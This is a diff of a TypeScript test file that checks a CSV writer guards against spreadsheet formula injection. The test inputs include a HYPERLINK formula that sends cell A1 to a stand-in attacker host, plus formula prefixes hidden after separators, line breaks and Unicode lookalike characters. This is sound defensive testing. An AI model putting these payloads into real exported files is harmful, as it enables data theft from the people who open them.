@@ -1,7 +1,7 @@
 import * as fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { anyText } from '#/test/any-text.ts'
-import { guardFormula, toCsv } from './csv.ts'
+import { guardText, toCsv } from './csv.ts'
 
 /** A reader of RFC 4180 that knows nothing of the writer. */
 function parse(csv: string): string[][] {
@@ -37,6 +37,49 @@ function parse(csv: string): string[][] {
   return records
 }
 
+/**
+ * The cells that a spreadsheet makes of a file. A quote counts at the start of a cell only; what follows the
+ * closing one belongs to the cell, as Excel reads it.
+ */
+function cellsIn(csv: string, separators: string, honoursQuotes: boolean): string[] {
+  const cells: string[] = []
+  let at = 0
+  while (at < csv.length) {
+    let cell = ''
+    if (honoursQuotes && csv[at] === '"') {
+      at += 1
+      while (at < csv.length && (csv[at] !== '"' || csv[at + 1] === '"')) {
+        cell += csv[at]
+        at += csv[at] === '"' ? 2 : 1
+      }
+      at += 1
+    }
+    while (at < csv.length && !`${separators}\r\n`.includes(csv.charAt(at))) {
+      cell += csv[at]
+      at += 1
+    }
+    at += 1
+    cells.push(cell)
+  }
+  return cells
+}
+
+/** Every way that a spreadsheet program may split a file. */
+const waysToOpen = [',', ';', '\t', '|', ',;\t'].flatMap((separators) => [
+  { separators, honoursQuotes: true },
+  { separators, honoursQuotes: false },
+])
+
+/** A negative number is no formula, also with the quote that closes a text. */
+const isFormula = (cell: string): boolean =>
+  /^[\s\0\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) &&
+  !/^[\s\0]*-\d+(?:\.\d+)?"?$/.test(cell)
+
+const formulasIn = (csv: string): string[] =>
+  waysToOpen
+    .flatMap(({ separators, honoursQuotes }) => cellsIn(csv, separators, honoursQuotes))
+    .filter(isFormula)
+
 describe('csv', () => {
   it.each([
     ['=HYPERLINK("https://evil.example/?x="&A1,"open")'],
@@ -44,31 +87,124 @@ describe('csv', () => {
     ['+1+1'],
     ['-2+3'],
     ['@SUM(1,1)'],
-    ['\t=1+1'],
-    ['\r=1+1'],
-    ['\n=1+1'],
     ['\0=1+1'],
     ['＝1+1'],
     ['＋1'],
     ['－1'],
     ['＠x'],
+    ['﹦1+1'],
+    ['\u22121+1'],
     [' =1+1'],
     ['\u200b=1+1'],
     ['\ufeff=1+1'],
     ['\tx'],
     ['\rx'],
+    ['|x'],
+    ['%x'],
     ['-starts-with-hyphen.example'],
   ])('P12 the formula %j is text', (text) => {
-    expect(guardFormula(text)).toBe(`'${text}`)
-    expect(parse(toCsv(['a'], [[text]]))[1]).toEqual([`'${text}`])
+    const [, [cell = ''] = []] = parse(toCsv(['a'], [[text]]))
+    expect(cell).toMatch(/^'/)
+    expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''))
   })
 
-  it.each(['northbank.com', "'quoted'", '10-2', 'a=b', '', '例え'])(
-    'leaves the text %j as it is',
-    (text) => {
-      expect(guardFormula(text)).toBe(text)
-    },
-  )
+  it.each([
+    ['x;=1+1;y', "x;'=1+1;y"],
+    ['x\t=1+1\ty', "x\t'=1+1\ty"],
+    ['x\n=1+1\ny', "x\n'=1+1\ny"],
+    ['x\r\n@SUM(1,1)', "x\r\n'@SUM(1,1)"],
+    ['x,=1+1,y', "x,'=1+1,y"],
+    ['x|=1+1|y', "x|'=1+1|y"],
+    ['x; =1+1;y', "x; '=1+1;y"],
+    ['x;"=1+1";y', `x;"'=1+1";y`],
+    ['x;""=1+1"";y', `x;""'=1+1"";y`],
+    ['x;\t-2+3', "x;\t'-2+3"],
+    ['x;＝1+1', "x;'＝1+1"],
+    ['=1;=2', "'=1;'=2"],
+    ['\t=1+1', "'\t'=1+1"],
+    ['\n=1+1', "'\n'=1+1"],
+  ])('P12 the formula in %j is text wherever the file is split', (text, guarded) => {
+    const csv = toCsv(['host', 'note'], [['a.example', text]])
+    expect(parse(csv)[1]).toEqual(['a.example', guarded])
+    expect(formulasIn(csv)).toEqual([])
+  })
+
+  it.each([
+    ['3/94'],
+    ['3 / 94'],
+    ['1-2'],
+    ['5-'],
+    ['1:2'],
+    ['12:30:15.5'],
+    ['1.2'],
+    ['1.2.3'],
+    ['20.11.'],
+    ['.5'],
+    ['1e5'],
+    ['1.5E-3'],
+    ['2026-11'],
+    ['20.11.2026'],
+    ['00123'],
+    ['123456789012'],
+    ['12345678901234567890'],
+    ['1,234'],
+    ['1\u00a0234'],
+    ['$5'],
+    ['5 €'],
+    ['(5)'],
+    ['٣/٩٤'],
+    ['１２'],
+    ['1 2/3'],
+    ['192.168.100.100'],
+    ['10am'],
+    ['1:02 p.m.'],
+    ['MAR-1'],
+    ['5 Jan 2026'],
+    ['SEPT2'],
+    ['5. Mai'],
+    ['2-déc'],
+    ['TRUE'],
+    ['false'],
+  ])('P12 the text %j does not become a number or a date', (text) => {
+    const csv = toCsv(['score'], [[text]])
+    expect(parse(csv)[1]).toEqual([`'${text}`])
+    for (const { separators, honoursQuotes } of waysToOpen)
+      expect(cellsIn(csv, separators, honoursQuotes)).not.toContain(text)
+  })
+
+  it.each([
+    'northbank.com',
+    "'quoted'",
+    'a=b',
+    'a; b, c - d',
+    'northbank-1.example',
+    'may',
+    '',
+    '例え',
+    '0',
+    '64500',
+    '12345678901',
+    '2026-11-20',
+    '2026-11-20T08:00:00.000Z',
+    '192.0.2.1',
+    '2001:0:0:0:1:2:3:4',
+    '12345678-1234-4123-8123-1234567890ab',
+    'AS64500',
+    '3/94 engines',
+    '[1.5,-2,-3e-7]',
+    '[{"score":-5,"phone":"+49 30 1234"}]',
+  ])('leaves the text %j as it is', (text) => {
+    expect(guardText(text)).toBe(text)
+  })
+
+  it('keeps JSON readable that holds formulas', () => {
+    const value = { note: 'x;=1+1', list: ['=1', '-2+3', 'a,-b'], phones: ['+49', '+50'] }
+    expect(JSON.parse(guardText(JSON.stringify(value)))).toEqual({
+      ...value,
+      note: "x;'=1+1",
+      list: ['=1', '-2+3', "a,'-b"],
+    })
+  })
 
   it('writes a record that holds quotes, separators and line breaks as one', () => {
     expect(toCsv(['host', 'note'], [['a.example', 'a,"b"\r\nc;d']])).toBe(
@@ -76,16 +212,29 @@ describe('csv', () => {
     )
   })
 
-  it('writes numbers as numbers, and nothing for what is not there', () => {
-    expect(toCsv(['a', 'b', 'c', 'd'], [[-5, 0.25, null, Number.NaN]])).toBe(
-      'a,b,c,d\r\n-5,0.25,,\r\n',
+  it('writes numbers and booleans as such, and nothing for what is not there', () => {
+    expect(toCsv(['a', 'b', 'c', 'd', 'e'], [[-5, 0.25, true, null, Number.NaN]])).toBe(
+      'a,b,c,d,e\r\n-5,0.25,true,,\r\n',
     )
   })
 
-  it('reads back as the guarded texts, whatever they are', () => {
+  it('takes no longer for each character of a long text', () => {
+    const length = 100_000
+    const began = performance.now()
+    for (const part of [' ', '\t', ';', '"', '1', '-', '=', 'e', '1.', ';"', 'jan ', '1 ', '٣/'])
+      for (const [first, last] of [
+        ['', ''],
+        ['1', 'x'],
+        ['jan', '!'],
+      ])
+        guardText(first + part.repeat(length / part.length) + last)
+    expect(performance.now() - began).toBeLessThan(2000)
+  })
+
+  it('reads back as the guarded texts, whatever they are, and no part of a text is a formula', () => {
     const text = fc.oneof(
       anyText(),
-      fc.string({ unit: fc.constantFrom(...Array.from('=+-@"\',;\t\r\n\0 a＝')) }),
+      fc.string({ unit: fc.constantFrom(...Array.from('=+-@"\',;|\t\r\n\0 a1＝')) }),
     )
     const table = fc
       .integer({ min: 1, max: 5 })
@@ -95,12 +244,12 @@ describe('csv', () => {
     fc.assert(
       fc.property(table, (rows) => {
         const [header = [], ...rest] = rows
-        const guarded = rows.map((row) => row.map(guardFormula))
+        const guarded = rows.map((row) => row.map(guardText))
         // One empty field alone is an empty line.
         fc.pre(guarded.every((row) => row.join('') !== '' || row.length > 1))
-        expect(parse(toCsv(header, rest))).toEqual(guarded)
-        for (const cell of guarded.flat())
-          expect(cell).not.toMatch(/^[\s\0]*[=+\-@\uff1d\uff0b\uff0d\uff20]/)
+        const csv = toCsv(header, rest)
+        expect(parse(csv)).toEqual(guarded)
+        expect(formulasIn(csv)).toEqual([])
       }),
     )
   })
